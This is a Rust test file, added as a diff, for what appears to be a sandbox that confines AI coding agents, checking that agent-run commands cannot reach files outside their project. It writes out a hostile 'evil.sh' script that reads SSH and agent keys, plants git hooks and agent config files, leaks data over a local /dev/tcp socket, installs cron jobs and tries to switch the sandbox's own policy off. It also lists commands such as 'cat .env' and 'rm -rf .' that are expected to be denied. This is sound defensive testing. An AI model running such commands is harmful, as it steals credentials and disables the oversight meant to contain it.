@@ -1,0 +1,204 @@
+//! Attacks with classes allowed: an agent that may look, change its files and build gets nothing outside of its folders.
+
+use postern_tests::{Agent, Arena, postern};
+use serde_json::{Value, json};
+use std::fs;
+use std::net::TcpListener;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+const SECRET: &str = "THE-PERSONS-KEY";
+
+/// Starts an agent that may work in its own folder.
+fn worker(arena: &Arena, name: &str) -> Agent {
+    let folders = format!("folders={}", arena.outside().join(format!("project-{name}")).display());
+    arena.agent(name, &[&folders, "look=allow", "files=allow", "build=allow"])
+}
+
+/// Requests a line that must run without a question, and returns its start and end.
+fn worked(agent: &mut Agent, line: &str) -> (Value, Value) {
+    let posted = agent.post(json!({ "shell": line }));
+    assert_ne!(posted["state"], "asking", "{line} is asked about: {posted}");
+    let started = agent.event(&["exec.started", "exec.denied"], &posted);
+    assert_eq!(started["method"], "exec.started", "{line}: {started}");
+    (started, agent.end(&posted))
+}
+
+fn output(end: &Value) -> String {
+    let text = |name: &str| end["params"][name].as_str().unwrap_or_default().to_owned();
+    text("stdout") + &text("stderr")
+}
+
+/// Requests a line; one that is asked about is withdrawn.
+fn tried(agent: &mut Agent, params: Value) -> Value {
+    let posted = agent.post(params);
+    if posted["state"] == "asking" {
+        agent.call("system.kill", &json!({ "requestId": posted["requestId"] }));
+    }
+    if posted["error"].is_string() { posted } else { agent.end(&posted) }
+}
+
+#[test]
+fn code_of_the_project_reaches_nothing_but_the_project() {
+    let Some(arena) = Arena::open() else { return };
+    let mut agent = worker(&arena, "main");
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let reached = Arc::new(AtomicUsize::new(0));
+    let count = Arc::clone(&reached);
+    std::thread::spawn(move || listener.incoming().for_each(|_| _ = count.fetch_add(1, Ordering::SeqCst)));
+    let home = arena.home();
+    fs::create_dir_all(home.join(".ssh")).unwrap();
+    fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
+    fs::write(home.join(".bashrc"), "# mine\n").unwrap();
+    fs::write(home.join("letter"), SECRET).unwrap();
+    let control = fs::read_to_string(arena.data().join("control.key")).unwrap();
+    agent.sh("git init -q . && git config user.name a && git config user.email a@b && echo one > notes.txt");
+    let (home, data, postern) = (home.display(), arena.data().display(), postern().display());
+    let id = agent.id().to_owned();
+    let evil = format!(
+        "#!/bin/bash\n\
+         echo evil ran\n\
+         cat {home}/.ssh/id_rsa {home}/letter {data}/control.key {data}/agents/*/agent.key\n\
+         ln -s {home} way; cat way/letter; cp {home}/letter copy; ln {home}/letter hard; cat hard\n\
+         cat /proc/*/environ /proc/1/root{home}/letter\n\
+         echo x >> {home}/.bashrc; echo x > {home}/mark; echo x > way/mark; echo x > /var/tmp/postern-mark-{port}\n\
+         mkdir -p {home}/.config/autostart; echo x > {home}/.config/autostart/mark\n\
+         echo evil > .git/hooks/pre-commit; git config core.fsmonitor ./evil.sh\n\
+         mkdir .claude .vscode; echo '{{}}' > .claude/settings.json; echo '{{}}' > .mcp.json\n\
+         exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3\n\
+         python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}))'\n\
+         POSTERN_DATA={data} {postern} agents set {id} security=full ask=off --yes\n\
+         POSTERN_DATA={data} {postern} status\n\
+         kill -9 -1; kill -9 $PPID\n\
+         (sleep 0.2; echo x > {home}/mark-later) & setsid sh -c 'echo x > {home}/mark-daemon' &\n\
+         crontab -l; echo '* * * * * x' | crontab -; sudo -n id; su -c id; docker ps; systemd-run --user id\n\
+         exit 0\n"
+    );
+    agent.write("evil.sh", &evil, 0o755);
+    agent.write("Makefile", "all:\n\t./evil.sh\n", 0o644);
+    agent.write("package.json", r#"{"name":"x","version":"1.0.0","scripts":{"test":"./evil.sh"}}"#, 0o644);
+    agent.write("test_evil.py", "import os\nos.system('./evil.sh')\n", 0o644);
+    for line in [
+        "./evil.sh",
+        "bash evil.sh",
+        "make",
+        "python3 test_evil.py",
+        "python3 -c \"import os; os.system('./evil.sh')\"",
+        "cat notes.txt && ./evil.sh",
+        "for f in 1 2; do ./evil.sh; done",
+        "eval \"$(cat evil.sh)\"",
+        "FOO=1 sh -c './evil.sh; true'",
+        "find . -name notes.txt -exec ./evil.sh \\;",
+    ] {
+        let end = tried(&mut agent, json!({ "shell": line }));
+        let said = output(&end);
+        assert!(!said.contains(SECRET) && !said.contains(control.trim()), "{line} read it: {said}");
+    }
+    let ran = worked(&mut agent, "./evil.sh");
+    assert_eq!(ran.0["params"]["profile"], "project", "{}", ran.0);
+    assert!(output(&ran.1).contains("evil ran"), "the attack itself ran: {}", ran.1);
+    for path in ["mark", "mark-later", "mark-daemon", ".config/autostart/mark"] {
+        assert!(!arena.home().join(path).exists(), "{path} was written");
+    }
+    assert_eq!(fs::read_to_string(arena.home().join(".bashrc")).unwrap(), "# mine\n");
+    assert!(!std::path::Path::new(&format!("/var/tmp/postern-mark-{port}")).exists());
+    for path in [".git/hooks/pre-commit", ".claude/settings.json", ".mcp.json"] {
+        assert!(!agent.project().join(path).exists(), "{path} was planted");
+    }
+    let config = fs::read_to_string(agent.project().join(".git/config")).unwrap();
+    assert!(!config.contains("fsmonitor"), "{config}");
+    assert_eq!(reached.load(Ordering::SeqCst), 0, "something connected");
+    assert_eq!(agent.policy(), json!({ "security": "allowlist", "ask": "on-miss" }), "nothing of it changed");
+}
+
+#[test]
+fn what_classes_do_not_hold_is_asked_about() {
+    let Some(arena) = Arena::open() else { return };
+    let mut agent = worker(&arena, "main");
+    let home = arena.home().display().to_string();
+    agent.sh("git init -q . && echo one > notes.txt");
+    agent.write("evil.sh", "#!/bin/sh\necho evil ran\n", 0o755);
+    for line in [
+        format!("cat {home}/.ssh/id_rsa"),
+        "./evil.sh > /srv/postern-mark".to_owned(),
+        "cp notes.txt ~/postern-mark".to_owned(),
+        "git config core.fsmonitor ./evil.sh; echo x > .git/hooks/pre-commit".to_owned(),
+        "echo x > .claude/settings.json".to_owned(),
+        "rm -rf .".to_owned(),
+        "git push origin main".to_owned(),
+        "curl https://example.com".to_owned(),
+        "npm install left-pad && ./evil.sh".to_owned(),
+        "sudo ./evil.sh".to_owned(),
+        "cat .env".to_owned(),
+        "git reset --hard HEAD~1".to_owned(),
+    ] {
+        let end = tried(&mut agent, json!({ "shell": line }));
+        assert_eq!(end["method"], "exec.denied", "{line} ran: {end}");
+    }
+    assert!(!std::path::Path::new("/srv/postern-mark").exists());
+}
+
+#[test]
+fn work_in_its_folders_runs_without_a_question_and_confined() {
+    let Some(arena) = Arena::open() else { return };
+    let mut agent = worker(&arena, "main");
+    agent.sh("git init -q . && git config user.name a && git config user.email a@b && echo one > notes.txt");
+    agent.write("Makefile", "out.txt: notes.txt\n\ttr a-z A-Z < notes.txt > out.txt\n", 0o644);
+    for line in [
+        "make && cat out.txt | grep ONE",
+        "git add . && git commit -qm one && git status --short",
+        "mkdir -p src && echo 'print(1)' > src/a.py && python3 src/a.py",
+        "sed -i s/one/two/ notes.txt && rm out.txt && make",
+        "echo kept > /tmp/kept.txt",
+        "cat /tmp/kept.txt | grep kept",
+    ] {
+        let (started, end) = worked(&mut agent, line);
+        assert_eq!(
+            (&started["params"]["profile"], &end["params"]["exitCode"]),
+            (&json!("project"), &json!(0)),
+            "{line}: {end}"
+        );
+    }
+    let (started, _) = worked(&mut agent, "cat notes.txt");
+    assert_eq!(started["params"]["profile"], "look", "reading needs less");
+    assert!(!std::path::Path::new("/tmp/kept.txt").exists(), "its temporary folder is its own");
+}
+
+#[test]
+fn what_fails_confined_says_how_to_ask_for_more() {
+    let Some(arena) = Arena::open() else { return };
+    let mut agent = worker(&arena, "main");
+    agent.write("fetch.sh", "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/9\n", 0o755);
+    let (_, end) = worked(&mut agent, "./fetch.sh");
+    let message = end["params"]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("had no network") && message.contains("--confine none"), "{end}");
+    let refused = agent.post(json!({ "shell": "./fetch.sh", "confine": "none" }));
+    assert!(refused["error"].as_str().is_some_and(|said| said.contains("needs a reason")), "{refused}");
+    let watcher = arena.watch();
+    let posted =
+        agent.post(json!({ "shell": "./fetch.sh", "confine": "none", "reason": "it needs the network" }));
+    assert_eq!(posted["state"], "asking", "{posted}");
+    let question = watcher.question();
+    assert!(question.to_string().contains("it asks to run with your rights"), "{question}");
+    agent.call("system.kill", &json!({ "requestId": posted["requestId"] }));
+    let look = agent.post(json!({ "shell": "echo x > written", "confine": "look" }));
+    assert_eq!(look["state"], "asking", "look holds it from writing: {look}");
+}
+
+#[test]
+fn a_class_that_is_denied_denies() {
+    let Some(arena) = Arena::open() else { return };
+    let folders = format!("folders={}", arena.outside().join("project-main").display());
+    let mut agent = arena.agent("main", &[&folders, "share=deny", "secrets=deny"]);
+    for line in ["git push origin main", "cat .env", "gh auth token"] {
+        let end = agent.request(json!({ "shell": line }));
+        assert_eq!(
+            (&end["method"], &end["params"]["reason"]),
+            (&json!("exec.denied"), &json!("policy")),
+            "{line}: {end}"
+        );
+    }
+    let missing = arena.run(&["agents", "set", agent.id(), "folders=none", "files=allow"]);
+    assert!(missing.code != 0 && missing.stderr.contains("folders=~/Projects/site"), "{missing:?}");
+}
